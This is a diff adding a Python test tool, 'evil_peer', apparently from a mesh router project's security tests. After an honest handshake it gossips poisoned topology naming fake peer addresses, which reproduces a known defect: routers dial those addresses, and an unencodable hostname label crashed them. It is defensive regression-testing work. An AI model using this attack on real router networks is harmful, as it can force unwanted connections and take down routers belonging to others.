@@ -1,0 +1,168 @@
+"""An evil peer: completes a plain handshake with a router, then sends what no honest
+router would. Run inside a test host's namespace:
+
+    python -m tests.attacks.evil_peer ROUTER_IP [--port 6783] ATTACK [options]
+
+Each attack is one function registered with :func:`attack`, which gets a connected
+:class:`Session` (handshake done, codec ready) and its parsed options; the connection
+and the handshake are shared. The script prints ``connected to NAME`` after the
+handshake, ``sent`` once the attack is out, and ``closed by router`` if the router hangs
+up, so a test can tell what happened; it exits 0 unless it could not connect.
+
+Attacks:
+    poison-topology --address ADDR...   topology gossip in which we have connections to
+                                        made-up peers at ADDR (the router dials them)
+"""
+
+from __future__ import annotations
+
+import argparse
+import secrets
+import socket
+import sys
+import threading
+import time
+from collections.abc import Callable
+from dataclasses import dataclass, field
+
+from router.handshake import Handshake, PeerIdentity
+from router.peername import format_peer_name, parse_peer_name, random_peer_name
+from router.protocol import GossipMessage, Tag, encode_gossip, encode_message
+from router.topology import ConnectionSummary, PeerSummary, encode_topology
+
+
+@dataclass
+class Session:
+    """One handshaken connection to the router."""
+
+    sock: socket.socket
+    hs: Handshake
+    name: int
+    nickname: str
+    uid: int
+    router_address: str
+    router_port: int
+    lock: threading.Lock = field(default_factory=threading.Lock)
+
+    @property
+    def router_name(self) -> int:
+        return self.hs.remote.name
+
+    def send(self, tag: int, body: bytes = b"") -> None:
+        with self.lock:
+            self.sock.sendall(self.hs.codec.encode_frame(encode_message(tag, body)))
+
+    def gossip(self, channel: str, payload: bytes, tag: Tag = Tag.GOSSIP, dst: int | None = None) -> None:
+        self.send(tag, encode_gossip(GossipMessage(tag, channel, self.name, payload, dst)))
+
+    def link_to_router(self) -> ConnectionSummary:
+        """Our (honest) entry for the connection we have to the router."""
+        return ConnectionSummary(self.router_name, f"{self.router_address}:{self.router_port}", True, True)
+
+    def heartbeats(self, interval: float = 0.5) -> None:
+        """Keep the connection alive from a thread (the router drops silent ones)."""
+
+        def loop() -> None:
+            try:
+                while True:
+                    time.sleep(interval)
+                    self.send(Tag.HEARTBEAT)
+            except OSError:
+                pass
+
+        threading.Thread(target=loop, daemon=True).start()
+
+    def hold(self, seconds: float) -> bool:
+        """Read (and drop) what the router sends for `seconds`; False if it hung up."""
+        deadline = time.monotonic() + seconds
+        while (left := deadline - time.monotonic()) > 0:
+            self.sock.settimeout(left)
+            try:
+                if not self.sock.recv(65536):
+                    return False
+            except TimeoutError:
+                break
+            except OSError:
+                return False
+        return True
+
+
+def connect(router: str, port: int, nickname: str, name: int | None = None) -> Session:
+    name = name if name is not None else random_peer_name()
+    uid = secrets.randbits(63) + 1
+    sock = socket.create_connection((router, port), timeout=10)
+    hs = Handshake(outbound=True, local=PeerIdentity(name, nickname, uid), conn_id=secrets.randbits(64),
+                   overlays=("sleeve",))
+    sock.sendall(hs.initiate())
+    while not hs.complete:
+        data = sock.recv(65536)
+        if not data:
+            raise SystemExit("router closed the connection during the handshake")
+        out = hs.receive_data(data)
+        if out:
+            sock.sendall(out)
+    return Session(sock, hs, name, nickname, uid, router, port)
+
+
+# ---------------------------------------------------------------- attacks
+
+Attack = Callable[[Session, argparse.Namespace], None]
+ATTACKS: dict[str, tuple[Attack, Callable[[argparse.ArgumentParser], None]]] = {}
+
+
+def attack(name: str, options: Callable[[argparse.ArgumentParser], None] = lambda p: None):  # type: ignore[no-untyped-def]
+    """Register an attack as subcommand `name`; `options` adds its arguments."""
+
+    def register(fn: Attack) -> Attack:
+        ATTACKS[name] = (fn, options)
+        return fn
+
+    return register
+
+
+def _poison_options(p: argparse.ArgumentParser) -> None:
+    p.add_argument("--address", action="append", required=True, help="address of a made-up peer (repeatable)")
+    p.add_argument("--inbound", action="store_true", help="list the made-up connections as inbound ones")
+    p.add_argument("--hold", type=float, default=3.0, help="seconds to stay connected afterwards")
+
+
+@attack("poison-topology", _poison_options)
+def poison_topology(session: Session, opts: argparse.Namespace) -> None:
+    """Issue 12 defect 1: every router that learns of a connection dials its address;
+    one that getaddrinfo cannot even encode (a 64-character label) killed them all."""
+    conns = [session.link_to_router()]
+    for address in opts.address:
+        conns.append(ConnectionSummary(random_peer_name(), address, not opts.inbound, True))
+    me = PeerSummary(session.name, session.nickname, session.uid, 1)
+    session.heartbeats()
+    session.gossip("topology", encode_topology([(me, conns)]))
+    print("sent", flush=True)
+    if not session.hold(opts.hold):
+        print("closed by router", flush=True)
+
+
+def main(argv: list[str] | None = None) -> int:
+    p = argparse.ArgumentParser(prog="evil_peer", description=__doc__,
+                                formatter_class=argparse.RawDescriptionHelpFormatter)
+    p.add_argument("router", help="the router's IP address")
+    p.add_argument("--port", type=int, default=6783)
+    p.add_argument("--name", default="", help="our peer name (default: random)")
+    p.add_argument("--nickname", default="evil")
+    sub = p.add_subparsers(dest="attack", required=True)
+    for name, (_, options) in ATTACKS.items():
+        options(sub.add_parser(name))
+    opts = p.parse_args(argv)
+    session = connect(opts.router, opts.port, opts.nickname, parse_peer_name(opts.name) if opts.name else None)
+    print("connected to", format_peer_name(session.router_name), flush=True)
+    fn, _ = ATTACKS[opts.attack]
+    try:
+        fn(session, opts)
+    except OSError as exc:  # the router hung up on us mid-attack: that is its right
+        print("closed by router", repr(exc), flush=True)
+    finally:
+        session.sock.close()
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
